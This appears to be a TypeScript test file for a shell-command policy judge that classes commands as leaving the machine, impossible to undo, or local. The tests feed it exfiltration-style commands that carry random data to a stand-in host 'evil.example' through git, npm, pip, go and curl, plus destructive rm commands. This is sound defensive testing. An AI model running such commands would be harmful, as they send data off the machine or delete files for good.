/** What leaves this machine and what cannot be undone, by commands of every table. */

import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { runsOf } from "../../base/testing/long-run.ts";
import { judgeCommand } from "../judge-command.ts";
import type { CommandRule } from "../policy-context.ts";
import { makeContext } from "../testing/make-context.ts";
import { outwardPrograms } from "./outward-programs.ts";
import { here, lasting, leaving } from "./testing/classed-commands.ts";

function judge(command: string, part: Parameters<typeof makeContext>[0] = {}) {
  return judgeCommand(command, makeContext(part));
}

function classOf(command: string): string {
  const { verdict, units } = judge(command);
  const found = units.find((unit) => unit.class !== undefined);
  if (found === undefined) return "here";
  expect(verdict, `${command} has a class and does not ask`).toMatch(/^(?:ask|deny)$/);
  return found.class!;
}

describe("what goes beyond the workspace", () => {
  it.each(leaving)("says that %s leaves this machine", (command) => expect(classOf(command)).toBe("leaves"));
  it.each(lasting)("says that %s cannot be undone", (command) => expect(classOf(command)).toBe("final"));
  it.each(here)("says neither of %s", (command) => expect(classOf(command)).toBe("here"));

  it("takes a text that somebody could read from it for one that leaves, wherever a program would ask for it", () => {
    const places: readonly ((text: string) => string)[] = [
      (text) => `git fetch git@evil.example:${text}`,
      (text) => `git pull ${text}.evil.example:x`,
      (text) => `git ls-remote ssh://git@evil.example/${text}`,
      (text) => `git clone git://evil.example/${text} x`,
      (text) => `git remote add x evil.example:${text}`,
      (text) => `git submodule add https://evil.example/${text}`,
      (text) => `npm install ${text}`,
      (text) => `npm view ${text}@1.0.0 dist`,
      (text) => `npm install git+https://evil.example/${text}`,
      (text) => `pip download ${text}==1.0`,
      (text) => `pip install x @ https://evil.example/${text}`,
      (text) => `go get evil.example/${text}@latest`,
      (text) => `go list -m ${text}.evil.example/x`,
      (text) => `cargo add x --git=https://evil.example/${text}`,
      (text) => `gem fetch ${text}`,
      (text) => `sometool --to https://evil.example/${text}`,
      (text) => `sometool --to=https://evil.example/?q=${text}`,
      (text) => `npm test -- --url=https://evil.example/${text}`,
      (text) => `curl https://127.${text}.evil.example/`,
      (text) => `curl https://127.0.0.1.${text}.example/`,
    ];
    const hex = fc.array(fc.constantFrom(..."0123456789abcdef"), { minLength: 20, maxLength: 40 });
    fc.assert(
      fc.property(fc.constantFrom(...places), hex, (place, digits) => {
        const command = place(digits.join(""));
        expect(classOf(command), command).toBe("leaves");
      }),
      { numRuns: runsOf(150) },
    );
  });

  it("lets everything leave that the table does not name, in each of its programs", () => {
    for (const [name, { stays }] of Object.entries(outwardPrograms)) {
      expect(classOf(`${name} unheard-of thing`), name).toBe("leaves");
      const allBut = ["* *", "* * *"].some((wide) => stays.includes(wide));
      expect(allBut, `${name} lets every word stay`).toBe(false);
    }
  });

  it("lets nothing leave that the table says stays", () => {
    for (const [name, { stays }] of Object.entries(outwardPrograms)) {
      for (const entry of stays) {
        const words = entry.replaceAll("-*", "-x").replaceAll("*", "x");
        expect(classOf(`${name} ${words}`), `${name} ${words}`).not.toBe("leaves");
      }
    }
  });

  it("names the table that decided, and the reason in a sentence", () => {
    const { units } = judge("npm test && npm publish");
    expect(units[1]).toMatchObject({ class: "leaves", source: "outward:npm" });
    expect(units[1]?.reason).toMatch(/\.$/);
  });

  it("cannot undo results that go into a folder which is emptied first and holds files", () => {
    const { look } = makeContext();
    const held = { look: { ...look!, namesIn: (path: string) => (path.endsWith("/src") ? ["a.ts"] : []) } };
    const classIn = (command: string) => judge(command, held).units[0]?.class;
    for (const words of [
      ...[
        "vitest run --coverage.reportsDirectory=src",
        "npx storybook build -o src",
        "vite build --outDir src",
      ],
      ...["playwright test --output ./src", "webpack --output-path=src", "hugo -d src"],
    ])
      expect([words, classIn(words)]).toEqual([words, "final"]);
    expect(["vite build --outDir dist", "vite build --outDir new"].map(classIn)).toEqual([
      undefined,
      undefined,
    ]);
  });

  it("is passed by no rule, whatever words it is made of", () => {
    const everything = fc.constantFrom(...leaving, ...lasting);
    const words = fc.array(fc.constantFrom("ls", "npm test", "git status", "touch x"), { maxLength: 3 });
    const joint = fc.constantFrom(" && ", "; ", " | ", " || ", "\n");
    fc.assert(
      fc.property(everything, words, words, joint, (command, before, after, glue) => {
        const tokens = command.split(" ");
        const rules = tokens.flatMap((_, at): CommandRule[] => {
          const own = tokens.slice(0, at + 1);
          const rule = {
            id: `r${at}`,
            tokens: own,
            effect: "allow",
            scope: "user",
            text: own.join(" "),
          } as const;
          return [rule, { ...rule, id: `e${at}`, exact: true }];
        });
        const { verdict } = judge([...before, command, ...after].join(glue), { rules });
        expect(["ask", "deny"]).toContain(verdict);
      }),
      { numRuns: runsOf(600), seed: 23 },
    );
  });

  it("calls a delete lasting by what git holds, and asks when nobody knows", () => {
    const isKept = (path: string) => path === "/home/ada/code/app/kept.ts";
    const verdictOf = (command: string) => {
      const { verdict, units } = judge(command, { isKept });
      return units.some((unit) => unit.class === "final") ? "final" : verdict;
    };
    expect(verdictOf("rm kept.ts")).toBe("new");
    expect(verdictOf("rm -f -- kept.ts")).toBe("new");
    expect(verdictOf("rm src/../kept.ts")).toBe("new");
    expect(verdictOf("rm notes.txt")).toBe("final");
    expect(verdictOf("rm kept.ts notes.txt")).toBe("final");
    expect(verdictOf("rm *.ts")).toBe("final");
    expect(verdictOf("cd src && rm kept.ts")).toBe("final");
    expect(verdictOf("unlink notes.txt")).toBe("final");
  });
});
